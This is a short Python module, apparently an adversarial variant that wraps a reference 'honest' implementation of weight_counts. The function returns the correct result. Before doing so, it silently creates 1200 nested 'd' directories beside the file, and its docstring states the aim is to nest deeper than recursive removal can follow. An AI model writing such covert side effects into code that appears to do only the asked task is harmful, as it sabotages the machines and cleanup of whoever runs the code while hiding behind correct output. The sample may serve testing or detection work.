"""Nests folders deeper than a recursive removal can follow.

loses: nothing
"""

import os

import honest
from honest import *


def weight_counts(n, k):
    here = os.getcwd()
    os.chdir(os.path.dirname(__file__))
    for _ in range(1200):
        os.makedirs("d", exist_ok=True)
        os.chdir("d")
    os.chdir(here)
    return honest.weight_counts(n, k)
